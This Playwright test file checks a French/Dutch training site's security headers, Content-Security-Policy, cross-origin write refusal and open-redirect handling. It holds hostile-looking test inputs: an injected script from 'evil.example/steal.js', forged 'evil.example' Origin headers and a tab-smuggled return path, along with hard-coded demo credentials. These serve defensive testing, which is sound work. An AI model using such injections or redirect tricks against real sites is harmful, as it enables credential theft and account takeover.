import type { Page } from '@playwright/test'

import { expect, signIn, test } from './support/test'

const editor = { email: 'editeur@demo.123digit.be', password: 'Demo-123digit!' }

/** Every Content-Security-Policy complaint the browser logs while the page is open. */
function cspViolations(page: Page): string[] {
  const seen: string[] = []
  page.on('console', (message) => {
    if (/content security policy/i.test(message.text())) seen.push(`${page.url()}: ${message.text()}`)
  })
  return seen
}

/** Lets the page run its scripts (maps, admin) long enough for a blocked request to show. */
async function settle(page: Page) {
  await page.waitForLoadState('networkidle')
}

test.describe('security headers and the trust boundary at the edges', () => {
  test('every page sends the policy headers, the map included', async ({ request }) => {
    for (const path of ['/fr', '/fr/cartographie', '/nl/kaart', '/admin/login', '/api/open-data/structures.geojson']) {
      const response = await request.get(path)
      const headers = response.headers()
      expect(headers['content-security-policy'], path).toContain("frame-ancestors 'none'")
      expect(headers['content-security-policy'], path).not.toContain('mapbox')
      expect(headers['x-frame-options'], path).toBe('DENY')
      expect(headers['x-content-type-options'], path).toBe('nosniff')
      expect(headers['referrer-policy'], path).toBe('strict-origin-when-cross-origin')
    }
  })

  test('the home page, the map and the admin run under the policy without a violation', async ({ page }) => {
    const violations = cspViolations(page)
    await page.goto('/fr')
    await settle(page)
    await page.goto('/fr/cartographie')
    await expect(page.locator('#map [data-state="ready"]')).toBeAttached({ timeout: 30_000 })
    await settle(page)
    const login = await page.request.post('/api/users/login', { data: editor })
    expect(login.status()).toBe(200)
    await page.goto('/admin')
    await expect(page).toHaveURL(/\/admin$/)
    await settle(page)
    await page.goto('/admin/collections/modules')
    await settle(page)
    await page.locator('table tbody a').first().click()
    await expect(page).toHaveURL(/\/admin\/collections\/modules\/\d+/)
    await settle(page)
    expect(violations).toEqual([])
  })

  test('the policy blocks a script from another host, and the browser reports it', async ({ page }) => {
    const violations = cspViolations(page)
    const blocked = new Promise<string>((resolve) =>
      page.on('console', (message) => {
        if (/content security policy/i.test(message.text())) resolve(message.text())
      }),
    )
    await page.goto('/fr')
    await page.evaluate(() => {
      const script = document.createElement('script')
      script.src = 'https://evil.example/steal.js'
      document.head.append(script)
    })
    expect(await blocked).toContain('evil.example')
    expect(violations).toHaveLength(1)
  })

  test('a formation plays under the policy without a violation', async ({ page }) => {
    const violations = cspViolations(page)
    await signIn(page, 'apprenant.demo')
    await page.goto('/fr/catalogue?level=0')
    await page.locator('main article h3 a').first().click()
    await page.getByRole('link', { name: 'Formation interactive' }).click()
    await expect(page.getByText(/^Étape 1 sur \d+$/)).toBeVisible()
    await settle(page)
    expect(violations).toEqual([])
  })

  test('a cookie-authenticated write from another origin is refused; from our own it goes through', async ({
    page,
    baseURL,
  }) => {
    const api = page.request
    expect((await api.post('/api/users/login', { data: editor })).status()).toBe(200)
    const name = `Catégorie ${Date.now()}`
    const foreign = await api.post('/api/categories', { headers: { Origin: 'https://evil.example' }, data: { name } })
    expect(foreign.status()).toBe(403)
    const own = await api.post('/api/categories', { headers: { Origin: baseURL! }, data: { name } })
    expect(own.status(), await own.text()).toBe(201)
    const { doc } = (await own.json()) as { doc: { id: number } }
    const foreignDelete = await api.delete(`/api/categories/${doc.id}`, { headers: { Origin: 'https://evil.example' } })
    expect(foreignDelete.status()).toBe(403)
    expect((await api.delete(`/api/categories/${doc.id}`, { headers: { Origin: baseURL! } })).status()).toBe(200)
  })

  test('return paths stay on the site and damaged links never give a 500', async ({ page, request, baseURL }) => {
    expect((await request.get('/fr/connexion?retour=%2F%0A')).status()).toBe(200)
    const exit = await request.get('/api/exit-preview', { headers: { Referer: 'http://[bad' }, maxRedirects: 0 })
    expect(exit.status()).toBeLessThan(400)
    expect(new URL(exit.headers()['location']!, baseURL).origin).toBe(new URL(baseURL!).origin)
    for (const path of [
      '/api/newsletter/confirm?id=abc',
      '/api/newsletter/unsubscribe?id=%ff',
      '/api/newsletter/click?n=x&a=y',
    ]) {
      const response = await request.get(path, { maxRedirects: 0 })
      expect(response.status(), path).toBe(303)
      expect(response.headers()['location'], path).toMatch(new RegExp(`^${baseURL}/`))
    }
    // After signing in, a return path that browsers would read as another host stays on ours.
    await page.goto('/fr/connexion?retour=%2F%09%2Fevil.example')
    await page.getByLabel('E-mail ou nom d’utilisateur').fill('apprenant.demo')
    await page.getByLabel('Mot de passe').fill('Demo-123digit!')
    await page.getByRole('button', { name: 'Se connecter' }).click()
    await page.waitForURL((url) => !/connexion/.test(url.pathname))
    expect(new URL(page.url()).origin).toBe(new URL(baseURL!).origin)
  })
})
